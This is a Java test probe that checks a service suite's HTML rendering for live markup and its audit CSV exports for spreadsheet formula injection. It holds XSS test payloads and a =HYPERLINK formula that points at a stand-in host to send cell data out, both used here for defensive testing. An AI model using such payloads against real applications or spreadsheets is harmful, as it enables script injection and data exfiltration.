package cn.wenming.suite.probe;

import java.io.IOException;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import cn.wenming.suite.Suite;
import cn.wenming.suite.probe.Report.Count;

/**
 * What the services write for people to open: article text with markup renders inert in the
 * printed HTML layout, and any CSV the services produce cannot start a formula in a spreadsheet.
 * Every operation whose document says it answers CSV must have its check here.
 */
final class OutputProbe {

    /** Markup an article may carry; none of it may come out as markup. */
    static final List<String> MARKUP = List.of("<script>alert('probe')</script>", "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">点我</a>", "</title><script>alert(2)</script>");

    private final Suite suite;
    private final Http http;
    private final Report report;

    OutputProbe(Suite suite, Http http) {
        this.suite = suite;
        this.http = http;
        this.report = http.report();
    }

    void run() {
        html();
        csv();
    }

    private void html() {
        String editor = "Bearer " + suite.token("probe-output-" + UUID.randomUUID(), "editor");
        String bulletin = suite.serviceUrl("bulletin-service") + "/api/v1";
        Http.Answer series = http.get(bulletin + "/bulletin-series?limit=1", "Authorization", editor);
        http.check("output: series", series);
        ObjectNode draft = Http.JSON.createObjectNode().put("seriesId", series.json().path("items").path(0).path("id").asText());
        var article = draft.putArray("articles").addObject().put("title", "标题" + MARKUP.get(0) + MARKUP.get(4)).put("source", MARKUP.get(2));
        var paragraphs = article.putArray("paragraphs");
        MARKUP.forEach(m -> paragraphs.add("段落 " + m));
        draft.putObject("distribution").putArray("REPORT").add(MARKUP.get(1));
        draft.putArray("additions").add(MARKUP.get(3));
        Http.Answer created = http.json("POST", bulletin + "/bulletins", draft.toString(), "Authorization", editor);
        http.check("output: draft with markup", created);
        check(created.status() == 201, "a draft whose text carries markup is stored as text (201), got " + created.status()
                + " " + Http.abbreviate(created.text()));
        if (created.status() != 201) {
            return;
        }
        String id = created.json().path("id").asText();
        for (String format : List.of("", "?format=html")) {
            Http.Answer html = http.get(bulletin + "/bulletins/" + id + "/render" + format, "Authorization", editor, "Accept", "text/html");
            http.check("output: render " + format, html);
            check(html.status() == 200 && html.contentType().startsWith("text/html"), "the HTML layout renders: " + html.status()
                    + " " + html.contentType());
            String page = html.text();
            for (String bad : List.of("<script>alert", "<img src=x", "onerror=alert(1)>", "<svg onload", "href=\"javascript:", "</title><script>")) {
                check(!page.contains(bad), "the HTML layout carries live markup from the article text: " + bad);
            }
            check(page.contains("&lt;script&gt;"), "the HTML layout shows the article's markup as text (&lt;script&gt;)");
        }
        Http.Answer asJson = http.get(bulletin + "/bulletins/" + id, "Authorization", editor);
        http.check("output: json", asJson);
        check(asJson.text().contains("<script>") || asJson.text().contains("\\u003Cscript"), "JSON keeps the text as written");
    }

    /** The operations that answer CSV and have their check here: each service's audit export. */
    static final String AUDIT_EXPORT = "/api/v1/audit/{service}/export";

    /** Every operation that produces CSV must be covered here: the audit exports are; any other fails the probe. */
    private void csv() {
        for (String service : Suite.SERVICES) {
            Http.Answer doc = http.get(suite.gatewayUrl() + "/openapi/" + service);
            JsonNode paths = doc.json().path("paths");
            paths.fields().forEachRemaining(p -> p.getValue().fields().forEachRemaining(m -> m.getValue().path("responses").fields()
                    .forEachRemaining(r -> {
                        if (r.getKey().startsWith("2") && r.getValue().path("content").has("text/csv")) {
                            if (p.getKey().equals(AUDIT_EXPORT) && m.getKey().equals("get")) {
                                auditExport(service);
                            } else {
                                check(false, "output: " + service + " " + m.getKey().toUpperCase() + " " + p.getKey()
                                        + " produces CSV, which the probe does not check for formula injection yet: extend OutputProbe.csv()");
                            }
                        }
                    })));
            check(doc.status() == 200, "the OpenAPI document of " + service + " is served");
        }
    }

    /**
     * A record whose fields start formulas (the user name is a token's upn, the query is the client's)
     * comes out of the CSV export with every cell neutralized: no cell starts with =, +, -, @, a tab or
     * a carriage return.
     */
    private void auditExport(String service) {
        String user = "=HYPERLINK(\"http://probe.invalid/?\"&A1,\"点我\")-" + UUID.randomUUID();
        String base = suite.gatewayUrl() + "/api/v1/audit/" + service;
        // a refused write (a reader may not purge) is recorded with that user and a query that starts a formula
        Http.Answer refused = http.json("POST", base + "/purge?-2+3=1", "{}", "Authorization", "Bearer " + suite.token(user, "reader"));
        http.check("output: a refused purge of " + service, refused);
        String admin = "Bearer " + suite.token("probe-output-auditor", "admin");
        Http.Answer csv = http.get(base + "/export?format=csv&user=" + URLEncoder.encode(user, StandardCharsets.UTF_8), "Authorization", admin);
        http.check("output: the audit export of " + service, csv);
        check(csv.status() == 200 && csv.contentType().startsWith("text/csv"), "output: the audit export of " + service + " answers CSV: "
                + csv.status() + " " + csv.contentType());
        List<CSVRecord> rows;
        try {
            String text = csv.text().startsWith("\uFEFF") ? csv.text().substring(1) : csv.text();
            rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text)).getRecords();
        } catch (IOException | RuntimeException e) {
            check(false, "output: the audit export of " + service + " is not CSV: " + e.getMessage());
            return;
        }
        check(!rows.isEmpty(), "output: the audit export of " + service + " holds the refused purge of " + user);
        for (CSVRecord row : rows) {
            check(row.get("user").equals("'" + user), "output: the audit export of " + service + " writes the user as " + row.get("user"));
            for (String cell : row.values()) {
                check(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "output: the audit export of " + service
                        + " has a cell that a spreadsheet runs as a formula: " + Http.abbreviate(cell));
            }
        }
    }

    private void check(boolean held, String failure) {
        report.inc(Count.OUTPUT_CHECKS);
        if (!held) {
            report.fail(null, failure);
        }
    }
}
